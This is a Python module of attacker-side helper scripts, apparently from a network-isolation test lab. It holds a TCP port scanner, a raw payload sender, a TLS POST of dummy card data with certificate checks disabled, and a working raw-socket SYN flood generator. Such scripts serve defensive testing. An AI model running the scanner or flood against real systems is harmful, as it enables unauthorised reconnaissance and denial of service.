"""Attacker-side clients: small stdlib scripts run inside the attacker namespace with a chosen
source address (``python -c SCRIPT args``), each bounded by socket timeouts."""

PROBE = r"""
import errno, json, select, socket, sys, time
src, dst, wait = sys.argv[1], sys.argv[2], float(sys.argv[3])
ports = [int(p) for p in sys.argv[4:]]
socks, state = {}, {}
for port in ports:
    s = socket.socket()
    s.setblocking(False)
    s.bind((src, 0))
    s.connect_ex((dst, port))
    socks[s] = port
deadline = time.monotonic() + wait
while socks and time.monotonic() < deadline:
    _, ready, _ = select.select([], list(socks), [], max(0.0, deadline - time.monotonic()))
    for s in ready:
        err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        state[socks.pop(s)] = "open" if err == 0 else "closed" if err == errno.ECONNREFUSED else "error"
        s.close()
for s, port in socks.items():
    state[port] = "filtered"
    s.close()
print(json.dumps({str(p): state[p] for p in ports}))
"""

SEND = r"""
import socket, sys
src, dst, port, payload = sys.argv[1], sys.argv[2], int(sys.argv[3]), bytes.fromhex(sys.argv[4])
try:
    s = socket.create_connection((dst, port), timeout=2, source_address=(src, 0))
except OSError:
    print("filtered")
    sys.exit(0)
s.settimeout(2)
s.sendall(payload)
try:
    s.recv(256)
except OSError:
    pass
s.close()
print("sent")
"""

TLS_LEAK = r"""
import socket, ssl, sys
src, dst, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
raw = socket.create_connection((dst, port), timeout=5, source_address=(src, 0))
with ctx.wrap_socket(raw) as s:
    body = b"name=Jane+Doe&card=4111111111111111&exp=12/29"
    s.sendall(b"POST /checkout HTTP/1.0\r\nHost: shop\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    reply = b""
    while chunk := s.recv(4096):
        reply += chunk
print(reply.split(b"\r\n", 1)[0].decode())
"""

SYN_FLOOD = r"""
import socket, struct, sys, time
iface, dst_mac, src, dst = sys.argv[1], bytes.fromhex(sys.argv[2]), sys.argv[3], sys.argv[4]
count, dport = int(sys.argv[5]), int(sys.argv[6])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = s.getsockname()[4]
frames = []
for i in range(count):
    tcp = struct.pack("!HHIIBBHHH", 20000 + i, dport, i, 0, 5 << 4, 0x02, 65535, 0, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    frames.append(dst_mac + src_mac + b"\x08\x00" + ip + tcp + b"\0" * 6)
t0 = time.monotonic()
for f in frames:
    s.send(f)
print(time.monotonic() - t0)
"""
